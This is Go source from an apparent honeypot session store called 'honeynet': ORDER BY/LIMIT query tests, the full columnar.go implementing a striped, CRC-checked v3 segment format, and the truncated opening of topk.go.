			cases := []struct {
				name  string
				field Field
				desc  bool
				limit int
				where *Pred
			}{
				{"ip-asc-limit", FieldIP, false, 25, nil},
				{"ip-desc-limit", FieldIP, true, 25, nil},
				{"start-desc-limit", FieldStart, true, 10, nil},
				{"port-asc-nolimit", FieldPort, false, 0, nil},
				{"ip-asc-filtered", FieldIP, false, 40,
					Cmp(FieldProto, CmpEq, StringValue(session.ProtoSSH))},
			}
			for _, tc := range cases {
				t.Run(tc.name, func(t *testing.T) {
					// Reference: unordered scan in store order, stable-sorted
					// on the key. SliceStable preserves store order on ties —
					// the same tie-break the heap's arrival index encodes.
					base := runRows(t, s, &Query{Where: tc.where})
					sort.SliceStable(base, func(i, j int) bool {
						c := compareValues(fieldValue(tc.field, base[i]), fieldValue(tc.field, base[j]))
						if tc.desc {
							c = -c
						}
						return c < 0
					})
					if tc.limit > 0 && len(base) > tc.limit {
						base = base[:tc.limit]
					}

					got := runRows(t, s, &Query{
						Where: tc.where, OrderBy: tc.field, Desc: tc.desc, Limit: tc.limit,
					})
					if len(got) != len(base) {
						t.Fatalf("got %d rows, want %d", len(got), len(base))
					}
					for i := range base {
						if got[i].ID != base[i].ID {
							t.Fatalf("row %d: got ID %d, want %d", i, got[i].ID, base[i].ID)
						}
					}
				})
			}
		})
	}
}

// runRows drains a row-mode query into a slice.
func runRows(t *testing.T, s *Store, q *Query) []*session.Record {
	t.Helper()
	res, err := s.RunQuery(q)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	var out []*session.Record
	for res.Next() {
		out = append(out, res.Record())
	}
	if err := res.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestFleetOrderByLimit: ORDER BY/LIMIT through the fleet scatter path
// must match a stable sort of the fleet-canonical unordered result.
func TestFleetOrderByLimit(t *testing.T) {
	dir := t.TempDir()
	if err := WriteFleetMarker(dir); err != nil {
		t.Fatal(err)
	}
	for ni, node := range []string{"n-a", "n-b"} {
		sh, err := Open(ShardDir(dir, node), Options{BlockBytes: 2048})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 90; i++ {
			if err := sh.Append(mkRecord(i%2, i*2+ni)); err != nil {
				t.Fatal(err)
			}
		}
		if err := sh.Seal(); err != nil {
			t.Fatal(err)
		}
		if err := sh.Close(); err != nil {
			t.Fatal(err)
		}
	}
	fl, err := OpenFleet(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()

	collect := func(q *Query) []uint64 {
		res, err := fl.RunQuery(q)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Close()
		var ids []uint64
		for res.Next() {
			ids = append(ids, res.Record().ID)
		}
		if err := res.Err(); err != nil {
			t.Fatal(err)
		}
		return ids
	}

	baseRes, err := fl.RunQuery(&Query{})
	if err != nil {
		t.Fatal(err)
	}
	var base []*session.Record
	for baseRes.Next() {
		base = append(base, baseRes.Record())
	}
	if err := baseRes.Err(); err != nil {
		t.Fatal(err)
	}
	baseRes.Close()
	sort.SliceStable(base, func(i, j int) bool {
		return compareValues(fieldValue(FieldIP, base[i]), fieldValue(FieldIP, base[j])) < 0
	})
	want := make([]uint64, 0, 15)
	for i := 0; i < 15 && i < len(base); i++ {
		want = append(want, base[i].ID)
	}

	got := collect(&Query{OrderBy: FieldIP, Limit: 15})
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("fleet ORDER BY mismatch:\n got %v\nwant %v", got, want)
	}
}
