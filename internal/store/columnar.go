package store

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"

	"honeynet/internal/parallel"
	"honeynet/internal/session"
)

// v3 columnar segments. A v3 block holds the same records as a v2 block
// would, but shredded: each record's canonical JSON line is split into
// per-field fragments (session.ShredJSON) and like fragments are stored
// together in per-field column stripes, each LZ-compressed on its own.
// The block opens with an uncompressed directory — row count, min/max
// start-time zone map, kind/protocol presence masks, and per-stripe
// (clen, ulen, crc) — so a reader addresses exactly the stripes a
// query's field mask needs and never touches the rest, at the byte
// level. Three stripes are not field columns:
//
//	seq   — delta-uvarint global append sequences
//	meta  — delta-varint start times (when int64-nanosecond safe),
//	        one kind byte per row, and dictionary-coded protocols;
//	        valid for every row, shredded or not
//	raw   — whole lines for rows ShredJSON rejected (non-canonical
//	        WAL recoveries); such rows are absent from every field
//	        stripe and decode through the stdlib fallback
//
// The directory's CRC lives in the manifest (blockMeta.CRC) and each
// stripe's CRC lives in the directory, so corruption is detected before
// any decompression. The manifest entry records Codec: "v3" and the
// file carries the HNSTORE3 magic; v1/v2 segments are untouched and
// keep reading through blockReader.

// FormatV3 is the manifest codec/layout tag for columnar segments.
const FormatV3 = "v3"

// FormatV2 names the row segment layout explicitly (the default when
// Options.Format is empty): blocks of whole records, Codec-compressed.
const FormatV2 = "v2"

// Stripe indices inside a v3 block.
const (
	stripeSeq  = 0
	stripeMeta = 1
	stripeRaw  = 2
	// stripeField0 + session.Col* is the stripe of one field column.
	stripeField0 = 3
	numStripes   = stripeField0 + session.NumColumns
)

// tnanoSafe reports whether every instant of the year can round-trip
// through int64 nanoseconds (the meta stripe's time encoding). Rows
// outside the window fall back to "zone map unknown".
func tnanoSafe(year int) bool { return year >= 1700 && year <= 2200 }

// protoMaskBit maps a protocol string to its presence-mask bit.
func protoMaskBit(proto string) byte {
	switch proto {
	case session.ProtoSSH:
		return 1
	case session.ProtoTelnet:
		return 2
	}
	return 4
}

// colBuf accumulates one column's fragments for the block being built:
// concatenated bytes plus one length per row (0 = absent).
type colBuf struct {
	data []byte
	lens []uint32
}

func (cb *colBuf) reset() {
	cb.data = cb.data[:0]
	cb.lens = cb.lens[:0]
}

func (cb *colBuf) add(frag []byte) {
	cb.data = append(cb.data, frag...)
	cb.lens = append(cb.lens, uint32(len(frag)))
}

func (cb *colBuf) skip() { cb.lens = append(cb.lens, 0) }

// colWriter is the seal-scratch block builder for v3 segments: rows
// accumulate shredded until the block fills, then encode flushes them
// as stripes. Reused across blocks, segments, and seals.
type colWriter struct {
	seqs      []uint64
	tnanos    []int64
	tnOK      bool
	kinds     []byte
	protos    []uint32
	dict      []string
	dictIdx   map[string]uint32
	kindMask  byte
	protoMask byte
	plain     session.ColumnSet
	cols      [session.NumColumns]colBuf
	raw       colBuf
	bytes     int // sum of line lengths: the block-split trigger
	shred     session.Columns
}

// plainTracked are the string columns whose all-plain verdict the
// writer records in the block directory: a set bit asserts every
// present fragment is a plain quoted ASCII string (no escapes, no
// embedded quotes), licensing the scan to slice values straight out of
// the stripe instead of parsing and allocating per row.
const plainTracked = session.ColumnSet(1) << session.ColClientIP

// plainStrFrag reports whether one fragment is such a plain string.
func plainStrFrag(b []byte) bool {
	if len(b) < 2 || b[0] != '"' || b[len(b)-1] != '"' {
		return false
	}
	for _, c := range b[1 : len(b)-1] {
		if c == '"' || c == '\\' || c < 0x20 || c >= 0x80 {
			return false
		}
	}
	return true
}

func (w *colWriter) rows() int { return len(w.seqs) }

func (w *colWriter) reset() {
	w.seqs = w.seqs[:0]
	w.tnanos = w.tnanos[:0]
	w.tnOK = true
	w.kinds = w.kinds[:0]
	w.protos = w.protos[:0]
	w.dict = w.dict[:0]
	for k := range w.dictIdx {
		delete(w.dictIdx, k)
	}
	w.kindMask, w.protoMask = 0, 0
	w.plain = plainTracked
	for c := range w.cols {
		w.cols[c].reset()
	}
	w.raw.reset()
	w.bytes = 0
}

// add appends one record's row to the open block.
func (w *colWriter) add(r *session.Record, line []byte, seq uint64) {
	if w.dictIdx == nil {
		w.dictIdx = map[string]uint32{}
	}
	w.seqs = append(w.seqs, seq)
	w.tnanos = append(w.tnanos, r.Start.UnixNano())
	if !tnanoSafe(r.Start.Year()) {
		w.tnOK = false
	}
	k := r.Kind()
	w.kinds = append(w.kinds, byte(k))
	w.kindMask |= 1 << uint(k)
	w.protoMask |= protoMaskBit(r.Protocol)
	di, ok := w.dictIdx[r.Protocol]
	if !ok {
		di = uint32(len(w.dict))
		w.dict = append(w.dict, r.Protocol)
		w.dictIdx[r.Protocol] = di
	}
	w.protos = append(w.protos, di)

	if session.ShredJSON(line, &w.shred) {
		for c := 0; c < session.NumColumns; c++ {
			if w.shred[c] == nil {
				w.cols[c].skip()
			} else {
				w.cols[c].add(w.shred[c])
			}
		}
		if w.plain.Has(session.ColClientIP) {
			if f := w.shred[session.ColClientIP]; f != nil && !plainStrFrag(f) {
				w.plain &^= 1 << uint(session.ColClientIP)
			}
		}
		w.raw.skip()
	} else {
		for c := 0; c < session.NumColumns; c++ {
			w.cols[c].skip()
		}
		w.raw.add(line)
	}
	w.bytes += len(line)
}

// stripeSpan locates one stripe's uncompressed bytes in the seal arena.
type stripeSpan struct {
	off, len int
}

// colBlockEnc is one encoded-but-not-yet-compressed block.
type colBlockEnc struct {
	spans      [numStripes]stripeSpan
	count      int
	tnOK       bool
	minT, maxT int64
	kindMask   byte
	protoMask  byte
	plain      session.ColumnSet
}

// encode flushes the open block's rows as stripes appended to arena and
// resets the writer for the next block.
func (w *colWriter) encode(arena []byte) ([]byte, colBlockEnc) {
	be := colBlockEnc{
		count:     w.rows(),
		tnOK:      w.tnOK,
		kindMask:  w.kindMask,
		protoMask: w.protoMask,
		plain:     w.plain & plainTracked,
	}
	if w.tnOK {
		be.minT, be.maxT = w.tnanos[0], w.tnanos[0]
		for _, t := range w.tnanos[1:] {
			if t < be.minT {
				be.minT = t
			}
			if t > be.maxT {
				be.maxT = t
			}
		}
	}
	span := func(st int, enc func([]byte) []byte) {
		off := len(arena)
		arena = enc(arena)
		be.spans[st] = stripeSpan{off, len(arena) - off}
	}
	span(stripeSeq, w.encodeSeqs)
	span(stripeMeta, w.encodeMeta)
	if len(w.raw.data) > 0 {
		span(stripeRaw, func(b []byte) []byte { return encodeColStripe(b, &w.raw) })
	}
	for c := 0; c < session.NumColumns; c++ {
		cb := &w.cols[c]
		if len(cb.data) == 0 {
			continue // no row has the field: zero-length stripe
		}
		st := stripeField0 + c
		span(st, func(b []byte) []byte { return encodeColStripe(b, cb) })
	}
	w.reset()
	return arena, be
}

// encodeSeqs writes the sequence stripe: first value absolute, then
// deltas (sequences ascend within a block).
func (w *colWriter) encodeSeqs(dst []byte) []byte {
	prev := uint64(0)
	for i, s := range w.seqs {
		if i == 0 {
			dst = binary.AppendUvarint(dst, s)
		} else {
			dst = binary.AppendUvarint(dst, s-prev)
		}
		prev = s
	}
	return dst
}

// encodeMeta writes the sidecar stripe: flags, delta-varint start times
// (only when every row is int64-nanosecond safe), kind bytes, protocol
// dictionary indices, then the dictionary.
func (w *colWriter) encodeMeta(dst []byte) []byte {
	var flags byte
	if w.tnOK {
		flags |= 1
	}
	dst = append(dst, flags)
	if w.tnOK {
		prev := int64(0)
		for i, t := range w.tnanos {
			if i == 0 {
				dst = binary.AppendVarint(dst, t)
			} else {
				dst = binary.AppendVarint(dst, t-prev)
			}
			prev = t
		}
	}
	dst = append(dst, w.kinds...)
	for _, p := range w.protos {
		dst = binary.AppendUvarint(dst, uint64(p))
	}
	dst = binary.AppendUvarint(dst, uint64(len(w.dict)))
	for _, s := range w.dict {
		dst = binary.AppendUvarint(dst, uint64(len(s)))
		dst = append(dst, s...)
	}
	return dst
}

// encodeColStripe writes one column stripe: presence bitmap, one
// uvarint length per present row, then the concatenated fragments.
func encodeColStripe(dst []byte, cb *colBuf) []byte {
	rows := len(cb.lens)
	off := len(dst)
	dst = append(dst, make([]byte, (rows+7)/8)...)
	bm := dst[off:]
	for i, l := range cb.lens {
		if l > 0 {
			bm[i>>3] |= 1 << uint(i&7)
		}
	}
	for _, l := range cb.lens {
		if l > 0 {
			dst = binary.AppendUvarint(dst, uint64(l))
		}
	}
	return append(dst, cb.data...)
}

// encodeColDir writes a block's directory.
func encodeColDir(dst []byte, be *colBlockEnc, clens [numStripes]int, crcs [numStripes]uint32) []byte {
	dst = binary.AppendUvarint(dst, uint64(be.count))
	var flags byte
	if be.tnOK {
		flags |= 1
	}
	dst = append(dst, flags)
	dst = binary.AppendVarint(dst, be.minT)
	dst = binary.AppendVarint(dst, be.maxT)
	dst = append(dst, be.kindMask, be.protoMask)
	dst = binary.AppendUvarint(dst, uint64(be.plain))
	dst = binary.AppendUvarint(dst, numStripes)
	for st := 0; st < numStripes; st++ {
		dst = binary.AppendUvarint(dst, uint64(clens[st]))
		dst = binary.AppendUvarint(dst, uint64(be.spans[st].len))
		dst = binary.AppendUvarint(dst, uint64(crcs[st]))
	}
	return dst
}

// writeSegmentColumnar is writeSegment's v3 twin: same inputs, same
// manifest aggregates, columnar block layout. Stripes compress in
// parallel across SealWorkers, one (block, stripe) pair per job.
func (s *Store) writeSegmentColumnar(file string, recs []*session.Record, lines [][]byte, idxs []int32, baseSeq uint64) (*segmentMeta, error) {
	meta := &segmentMeta{
		File:   file,
		Month:  recs[idxs[0]].Month().Format(monthLayout),
		MinSeq: baseSeq + uint64(idxs[0]),
		MaxSeq: baseSeq + uint64(idxs[len(idxs)-1]),
		Codec:  FormatV3,
		Bloom:  newBloom(len(idxs)),
	}
	if s.sealCol == nil {
		s.sealCol = &colWriter{}
	}
	cw := s.sealCol
	cw.reset()
	blockBytes := s.opts.blockBytes()
	arena := s.sealFrames[:0]
	defer func() { s.sealFrames = arena[:0] }()
	var blocks []colBlockEnc
	for _, i := range idxs {
		r, line := recs[i], lines[i]
		cw.add(r, line, baseSeq+uint64(i))

		meta.Records++
		meta.Kinds[r.Kind()]++
		switch r.Protocol {
		case session.ProtoSSH:
			meta.SSH++
		case session.ProtoTelnet:
			meta.Telnet++
		}
		meta.Bloom.Add(r.ClientIP)
		if meta.MinTime.IsZero() || r.Start.Before(meta.MinTime) {
			meta.MinTime = r.Start
		}
		if r.Start.After(meta.MaxTime) {
			meta.MaxTime = r.Start
		}

		if cw.bytes >= blockBytes {
			var be colBlockEnc
			arena, be = cw.encode(arena)
			blocks = append(blocks, be)
		}
	}
	if cw.rows() > 0 {
		var be colBlockEnc
		arena, be = cw.encode(arena)
		blocks = append(blocks, be)
	}

	// Flatten the non-empty (block, stripe) pairs into one job list and
	// compress them in parallel, reusing the seal codec and output
	// caches (v3 always LZ-compresses stripes; Validate rejects flate).
	type job struct{ bi, st int }
	var jobs []job
	for bi := range blocks {
		for st := 0; st < numStripes; st++ {
			if blocks[bi].spans[st].len > 0 {
				jobs = append(jobs, job{bi, st})
			}
		}
	}
	workers := s.sealWorkers(len(jobs))
	for len(s.sealCodecs) < workers {
		c, err := newBlockCodec(s.opts.codec())
		if err != nil {
			return nil, err
		}
		s.sealCodecs = append(s.sealCodecs, c)
	}
	for len(s.sealComps) < len(jobs) {
		s.sealComps = append(s.sealComps, nil)
	}
	comps := s.sealComps[:len(jobs)]
	crcs := make([]uint32, len(jobs))
	errs := make([]error, workers)
	parallel.ForEach(len(jobs), workers, 1, func(worker, lo, hi int) {
		for j := lo; j < hi; j++ {
			sp := blocks[jobs[j].bi].spans[jobs[j].st]
			comp, err := s.sealCodecs[worker].compress(comps[j][:0], arena[sp.off:sp.off+sp.len])
			if err != nil {
				errs[worker] = err
				return
			}
			comps[j] = comp
			crcs[j] = crc32.ChecksumIEEE(comp)
		}
	})
	for _, err := range errs {
		if err != nil {
			return nil, fmt.Errorf("store: compress stripe: %w", err)
		}
	}

	f, err := os.OpenFile(filepath.Join(s.dir, file), os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	magic := segmentMagic(FormatV3)
	if _, err := f.Write(magic[:]); err != nil {
		return nil, err
	}
	off := int64(len(magic))
	var dirBuf []byte
	ji := 0
	for bi := range blocks {
		be := &blocks[bi]
		var clens [numStripes]int
		var scrcs [numStripes]uint32
		first := ji
		for st := 0; st < numStripes; st++ {
			if be.spans[st].len > 0 {
				clens[st] = len(comps[ji])
				scrcs[st] = crcs[ji]
				ji++
			}
		}
		dirBuf = encodeColDir(dirBuf[:0], be, clens, scrcs)
		if _, err := f.Write(dirBuf); err != nil {
			return nil, err
		}
		clen, ulen := len(dirBuf), 0
		for j := first; j < ji; j++ {
			if _, err := f.Write(comps[j]); err != nil {
				return nil, err
			}
			clen += len(comps[j])
		}
		for st := 0; st < numStripes; st++ {
			ulen += be.spans[st].len
		}
		meta.Blocks = append(meta.Blocks, blockMeta{
			Off:    off,
			CLen:   clen,
			ULen:   ulen,
			Count:  be.count,
			CRC:    crc32.ChecksumIEEE(dirBuf),
			DirLen: len(dirBuf),
		})
		off += int64(clen)
		meta.RawBytes += int64(ulen)
		meta.CompBytes += int64(clen)
	}
	s.sealBlocks.Add(int64(len(blocks)))
	if err := f.Sync(); err != nil {
		return nil, err
	}
	return meta, nil
}

// ---- reading ----

// byteReader is a bounds-checked cursor over an untrusted stripe or
// directory payload: any overrun or malformed varint latches err.
type byteReader struct {
	b   []byte
	i   int
	err bool
}

func (r *byteReader) uvarint() uint64 {
	v, n := binary.Uvarint(r.b[r.i:])
	if n <= 0 {
		r.err = true
		return 0
	}
	r.i += n
	return v
}

func (r *byteReader) varint() int64 {
	v, n := binary.Varint(r.b[r.i:])
	if n <= 0 {
		r.err = true
		return 0
	}
	r.i += n
	return v
}

func (r *byteReader) byte() byte {
	if r.i >= len(r.b) {
		r.err = true
		return 0
	}
	b := r.b[r.i]
	r.i++
	return b
}

func (r *byteReader) bytes(n int) []byte {
	if n < 0 || r.i+n > len(r.b) {
		r.err = true
		return nil
	}
	b := r.b[r.i : r.i+n]
	r.i += n
	return b
}

// colDir is one block's parsed directory.
type colDir struct {
	rows       int
	tnOK       bool
	minT, maxT int64
	kindMask   byte
	protoMask  byte
	plain      session.ColumnSet // writer-asserted plain-string columns
	clen, ulen [numStripes]int
	crc        [numStripes]uint32
	off        [numStripes]int64 // absolute file offset of each stripe
}

// parseColDir decodes a directory read from bm.Off; stripe offsets are
// laid out back-to-back after the directory.
func parseColDir(buf []byte, bm *blockMeta, d *colDir) error {
	r := &byteReader{b: buf}
	d.rows = int(r.uvarint())
	flags := r.byte()
	d.tnOK = flags&1 != 0
	d.minT = r.varint()
	d.maxT = r.varint()
	d.kindMask = r.byte()
	d.protoMask = r.byte()
	d.plain = session.ColumnSet(r.uvarint())
	n := r.uvarint()
	if r.err || n != numStripes || d.rows <= 0 || d.rows != bm.Count {
		return fmt.Errorf("store: corrupt block directory")
	}
	off := bm.Off + int64(bm.DirLen)
	for st := 0; st < numStripes; st++ {
		d.clen[st] = int(r.uvarint())
		d.ulen[st] = int(r.uvarint())
		d.crc[st] = uint32(r.uvarint())
		d.off[st] = off
		off += int64(d.clen[st])
	}
	if r.err || r.i != len(buf) || off != bm.Off+int64(bm.CLen) {
		return fmt.Errorf("store: corrupt block directory")
	}
	return nil
}

// colData is one decoded column inside the current block: fragment
// offsets and lengths into the stripe's data section. lens[i] == 0
// means row i has no fragment; an all-zero (or nil) colData means the
// stripe was empty or never loaded.
type colData struct {
	data []byte
	off  []uint32
	lens []uint32
}

func (cd *colData) frag(i int) []byte {
	if cd.lens == nil || cd.lens[i] == 0 {
		return nil
	}
	return cd.data[cd.off[i] : cd.off[i]+cd.lens[i]]
}

func (cd *colData) clear() { cd.data, cd.off, cd.lens = nil, nil, nil }

// growU32 returns *p resized to n entries.
func growU32(p *[]uint32, n int) []uint32 {
	if cap(*p) < n {
		*p = make([]uint32, n)
	}
	return (*p)[:n]
}

// parseColStripe decodes one column stripe into cd. Fragment bytes
// alias payload.
func parseColStripe(payload []byte, rows int, offSc, lenSc *[]uint32, cd *colData) error {
	cd.off = growU32(offSc, rows)
	cd.lens = growU32(lenSc, rows)
	bmLen := (rows + 7) / 8
	if len(payload) < bmLen {
		return fmt.Errorf("store: corrupt column stripe")
	}
	bm := payload[:bmLen]
	pos := bmLen
	var total int64
	var off uint32
	for i := 0; i < rows; i++ {
		cd.off[i] = off
		if bm[i>>3]&(1<<uint(i&7)) == 0 {
			cd.lens[i] = 0
			continue
		}
		// Lengths under 128 are single-byte varints — the common case
		// by far — so decode them inline and fall back to the generic
		// decoder only for longer fragments.
		var l uint64
		if pos < len(payload) && payload[pos] < 0x80 {
			l = uint64(payload[pos])
			pos++
		} else {
			v, n := binary.Uvarint(payload[pos:])
			if n <= 0 {
				return fmt.Errorf("store: corrupt column stripe")
			}
			l = v
			pos += n
		}
		if l == 0 || l > uint64(len(payload)) {
			return fmt.Errorf("store: corrupt column stripe")
		}
		cd.lens[i] = uint32(l)
		off += uint32(l)
		total += int64(l)
	}
	data := payload[pos:]
	if int64(len(data)) != total {
		return fmt.Errorf("store: corrupt column stripe")
	}
	cd.data = data
	return nil
}

// colScratch is the pooled working set of one open v3 segment: stripe
// buffers, parsed sidecars, per-column fragment tables, and bitmap
// space for the vectorized evaluator. Pooled so a scan over many
// segments allocates a bounded working set, like blockBufPool.
type colScratch struct {
	lz      lzCodec
	comp    []byte
	dirBuf  []byte
	stripe  [numStripes][]byte
	seqs    []uint64
	tnanos  []int64
	kinds   []byte
	protos  []uint32
	dict    []string
	cols    [session.NumColumns]colData
	colOff  [session.NumColumns][]uint32
	colLen  [session.NumColumns][]uint32
	raw     colData
	rawOff  []uint32
	rawLen  []uint32
	bm      []uint64 // bitmap arena for the evaluator
	lineBuf []byte   // assembly fallback / full-line reads
}

var colScratchPool = sync.Pool{New: func() any { return new(colScratch) }}

// poolGets/poolPuts count block-scratch pool traffic (blockBufPool and
// colScratchPool alike), so tests can assert that every scan — early
// exit included — returns what it took.
var poolGets, poolPuts atomic.Int64

// PoolCounters reports cumulative block-scratch pool gets and puts.
func PoolCounters() (gets, puts int64) { return poolGets.Load(), poolPuts.Load() }

func acquireColScratch() *colScratch {
	poolGets.Add(1)
	return colScratchPool.Get().(*colScratch)
}

func releaseColScratch(sc *colScratch) {
	poolPuts.Add(1)
	colScratchPool.Put(sc)
}

// colSeg is one open v3 segment file plus its pooled scratch.
type colSeg struct {
	s    *Store // counters; may be nil in tests
	f    *os.File
	meta *segmentMeta
	sc   *colScratch
}

// openColSeg opens a v3 segment for reading.
func (s *Store) openColSeg(meta *segmentMeta) (*colSeg, error) {
	f, err := os.Open(filepath.Join(s.dir, meta.File))
	if err != nil {
		return nil, err
	}
	var magic [8]byte
	if _, err := io.ReadFull(f, magic[:]); err != nil || magic != segmentMagic(meta.Codec) {
		f.Close()
		return nil, fmt.Errorf("store: %s: bad segment magic", meta.File)
	}
	return &colSeg{s: s, f: f, meta: meta, sc: acquireColScratch()}, nil
}

func (cs *colSeg) close() error {
	if cs.sc != nil {
		releaseColScratch(cs.sc)
		cs.sc = nil
	}
	return cs.f.Close()
}

// readDir reads and verifies block bi's directory.
func (cs *colSeg) readDir(bi int, d *colDir) error {
	bm := &cs.meta.Blocks[bi]
	if bm.DirLen <= 0 || bm.DirLen > bm.CLen {
		return fmt.Errorf("store: %s: block %d: bad directory length", cs.meta.File, bi)
	}
	buf := grow(&cs.sc.dirBuf, bm.DirLen)
	if _, err := cs.f.ReadAt(buf, bm.Off); err != nil {
		return fmt.Errorf("store: %s: read block directory: %w", cs.meta.File, err)
	}
	if crc := crc32.ChecksumIEEE(buf); crc != bm.CRC {
		return fmt.Errorf("store: %s: block at %d: directory CRC mismatch", cs.meta.File, bm.Off)
	}
	if err := parseColDir(buf, bm, d); err != nil {
		return fmt.Errorf("store: %s: block at %d: %w", cs.meta.File, bm.Off, err)
	}
	return nil
}

// loadStripe reads, verifies, and decompresses stripe st of the block
// described by d into the scratch slot, returning its payload. An
// empty stripe returns nil.
func (cs *colSeg) loadStripe(d *colDir, st int, stats *PlanStats) ([]byte, error) {
	if d.ulen[st] == 0 {
		return nil, nil
	}
	comp := grow(&cs.sc.comp, d.clen[st])
	if _, err := cs.f.ReadAt(comp, d.off[st]); err != nil {
		return nil, fmt.Errorf("store: %s: read stripe: %w", cs.meta.File, err)
	}
	if crc := crc32.ChecksumIEEE(comp); crc != d.crc[st] {
		return nil, fmt.Errorf("store: %s: stripe at %d: CRC mismatch", cs.meta.File, d.off[st])
	}
	buf := grow(&cs.sc.stripe[st], d.ulen[st])
	if err := cs.sc.lz.decompress(buf, comp); err != nil {
		return nil, fmt.Errorf("store: %s: decompress stripe: %w", cs.meta.File, err)
	}
	if stats != nil {
		stats.StripesRead++
		stats.StripeBytes += int64(d.clen[st])
	}
	return buf, nil
}

// loadSeqs loads and parses the seq stripe. Only the sequence-ordered
// readers need it; masked scans skip the stripe entirely.
func (cs *colSeg) loadSeqs(d *colDir, stats *PlanStats) error {
	sc := cs.sc
	buf, err := cs.loadStripe(d, stripeSeq, stats)
	if err != nil {
		return err
	}
	r := &byteReader{b: buf}
	if cap(sc.seqs) < d.rows {
		sc.seqs = make([]uint64, d.rows)
	}
	sc.seqs = sc.seqs[:d.rows]
	var prev uint64
	for i := 0; i < d.rows; i++ {
		v := r.uvarint()
		if i > 0 {
			v += prev
		}
		sc.seqs[i] = v
		prev = v
	}
	if r.err || r.i != len(buf) {
		return fmt.Errorf("store: %s: corrupt seq stripe", cs.meta.File)
	}
	return nil
}

// loadSidecars loads and parses the meta stripe (valid for every row,
// shredded or raw).
func (cs *colSeg) loadSidecars(d *colDir, stats *PlanStats) error {
	sc := cs.sc
	buf, err := cs.loadStripe(d, stripeMeta, stats)
	if err != nil {
		return err
	}
	r := &byteReader{b: buf}
	flags := r.byte()
	if flags&1 != 0 {
		if cap(sc.tnanos) < d.rows {
			sc.tnanos = make([]int64, d.rows)
		}
		sc.tnanos = sc.tnanos[:d.rows]
		var pt int64
		for i := 0; i < d.rows; i++ {
			v := r.varint()
			if i > 0 {
				v += pt
			}
			sc.tnanos[i] = v
			pt = v
		}
	} else {
		sc.tnanos = sc.tnanos[:0]
	}
	sc.kinds = append(sc.kinds[:0], r.bytes(d.rows)...)
	if cap(sc.protos) < d.rows {
		sc.protos = make([]uint32, d.rows)
	}
	sc.protos = sc.protos[:d.rows]
	for i := 0; i < d.rows; i++ {
		sc.protos[i] = uint32(r.uvarint())
	}
	dictN := r.uvarint()
	if r.err || dictN > uint64(len(buf)) {
		return fmt.Errorf("store: %s: corrupt meta stripe", cs.meta.File)
	}
	sc.dict = sc.dict[:0]
	for i := uint64(0); i < dictN; i++ {
		l := r.uvarint()
		sc.dict = append(sc.dict, string(r.bytes(int(l))))
	}
	if r.err || r.i != len(buf) {
		return fmt.Errorf("store: %s: corrupt meta stripe", cs.meta.File)
	}
	for i := 0; i < d.rows; i++ {
		if sc.protos[i] >= uint32(len(sc.dict)) {
			return fmt.Errorf("store: %s: corrupt meta stripe", cs.meta.File)
		}
	}
	return nil
}

// loadCol loads and parses one field column of the block.
func (cs *colSeg) loadCol(d *colDir, c int, stats *PlanStats) error {
	buf, err := cs.loadStripe(d, stripeField0+c, stats)
	if err != nil {
		return err
	}
	if buf == nil {
		cs.sc.cols[c].clear()
		return nil
	}
	if err := parseColStripe(buf, d.rows, &cs.sc.colOff[c], &cs.sc.colLen[c], &cs.sc.cols[c]); err != nil {
		return fmt.Errorf("store: %s: column %s: %w", cs.meta.File, session.ColumnName(c), err)
	}
	return nil
}

// loadRaw loads the raw-overflow stripe (whole lines for unshreddable
// rows).
func (cs *colSeg) loadRaw(d *colDir, stats *PlanStats) error {
	buf, err := cs.loadStripe(d, stripeRaw, stats)
	if err != nil {
		return err
	}
	if buf == nil {
		cs.sc.raw.clear()
		return nil
	}
	if err := parseColStripe(buf, d.rows, &cs.sc.rawOff, &cs.sc.rawLen, &cs.sc.raw); err != nil {
		return fmt.Errorf("store: %s: raw stripe: %w", cs.meta.File, err)
	}
	return nil
}

// colReader reads a v3 segment as (seq, canonical line) pairs — the
// segReader contract blockReader satisfies for v1/v2 — by loading every
// stripe and reassembling each line. The sequence-ordered paths
// (replication, Load) use it; masked scans use colCursor instead.
type colReader struct {
	cs    *colSeg
	stats *PlanStats
	bi    int
	rows  int
	row   int
	dir   colDir
	asm   session.Columns
}

func (cr *colReader) setStats(ps *PlanStats) { cr.stats = ps }

func (cr *colReader) next() (uint64, []byte, error) {
	sc := cr.cs.sc
	for cr.row >= cr.rows {
		if cr.bi >= len(cr.cs.meta.Blocks) {
			return 0, nil, io.EOF
		}
		if err := cr.loadBlock(cr.bi); err != nil {
			return 0, nil, err
		}
		cr.bi++
	}
	i := cr.row
	cr.row++
	if line := sc.raw.frag(i); line != nil {
		return sc.seqs[i], line, nil
	}
	for c := 0; c < session.NumColumns; c++ {
		cr.asm[c] = sc.cols[c].frag(i)
	}
	sc.lineBuf = session.AppendAssembled(sc.lineBuf[:0], &cr.asm)
	return sc.seqs[i], sc.lineBuf, nil
}

func (cr *colReader) loadBlock(bi int) error {
	if err := cr.cs.readDir(bi, &cr.dir); err != nil {
		return err
	}
	if err := cr.cs.loadSeqs(&cr.dir, cr.stats); err != nil {
		return err
	}
	if err := cr.cs.loadSidecars(&cr.dir, cr.stats); err != nil {
		return err
	}
	for c := 0; c < session.NumColumns; c++ {
		if err := cr.cs.loadCol(&cr.dir, c, cr.stats); err != nil {
			return err
		}
	}
	if err := cr.cs.loadRaw(&cr.dir, cr.stats); err != nil {
		return err
	}
	cr.rows, cr.row = cr.dir.rows, 0
	if cr.cs.s != nil {
		cr.cs.s.blocksRead.Add(1)
	}
	if cr.stats != nil {
		cr.stats.BlocksRead++
	}
	return nil
}

func (cr *colReader) close() error { return cr.cs.close() }

// openColReader opens a v3 segment as a sequence-ordered segReader.
func (s *Store) openColReader(meta *segmentMeta) (*colReader, error) {
	cs, err := s.openColSeg(meta)
	if err != nil {
		return nil, err
	}
	return &colReader{cs: cs}, nil
}
