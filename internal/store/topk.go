package store

import (
	"sort"

	"honeynet/internal/session"
)

// ORDER BY/LIMIT pushdown: instead of materializing a whole result and
// sorting it, the sort runs below the aggregation layer as a bounded
